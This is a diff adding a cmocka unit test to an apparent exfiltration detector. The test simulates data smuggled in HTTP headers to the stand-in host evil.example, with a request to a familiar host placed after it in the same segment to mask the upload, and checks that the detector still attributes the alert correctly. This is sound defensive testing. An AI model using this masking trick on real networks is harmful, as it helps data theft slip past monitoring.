@@ -691,6 +691,37 @@ test_forged_rst_ignored(void **state)
 	assert_string_equal(alerts[0].dst_host, "evil.example");
 }
 
+/* Second review: data smuggled in the headers of a request to one host,
+ * followed in the same segment by a request to a familiar host, stays with
+ * the first host. */
+static void
+test_header_bytes_stay_with_their_request(void **state)
+{
+	struct fixture *fx = *state;
+	static uint8_t seg[2048];
+	static const char get[] = "GET http://good.example/ HTTP/1.1\r\n"
+	    "Host: good.example\r\n\r\n";
+	struct conn learn = { "10.1.20.9", "10.77.1.2", 40012, 3128, 1 };
+	struct conn c = { "10.1.20.98", "10.77.1.2", 50072, 3128, 1 };
+	uint64_t t = T0 + 2 * 3600 * SEC;
+	size_t i, n = 0;
+
+	send_out(fx->p, &learn, T0, get, sizeof(get) - 1); /* good is familiar */
+	n += (size_t)snprintf((char *)seg, sizeof(seg),
+	    "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nX-D: ");
+	memset(seg + n, 'A', 1300);
+	n += 1300;
+	memcpy(seg + n, "\r\n\r\n", 4);
+	n += 4;
+	memcpy(seg + n, get, sizeof(get) - 1);
+	n += sizeof(get) - 1;
+	for (i = 0; i < 150; i++)
+		send_out(fx->p, &c, t + i, seg, n);
+	assert_int_equal(nalerts, 1);
+	assert_string_equal(alerts[0].rule, "bulk-upload");
+	assert_string_equal(alerts[0].dst_host, "evil.example");
+}
+
 static void
 test_retransmission_counts_bytes_not_kind(void **state)
 {
@@ -822,6 +853,7 @@ main(void)
 		cmocka_unit_test_setup_teardown(test_fragments_before_first_still_counted, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_tunnel_after_200_stays_tunnel, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_forged_rst_ignored, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_header_bytes_stay_with_their_request, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_retransmission_counts_bytes_not_kind, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_internal_and_transit_not_tracked, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_bare_teardown_starts_no_flow, setup, teardown),
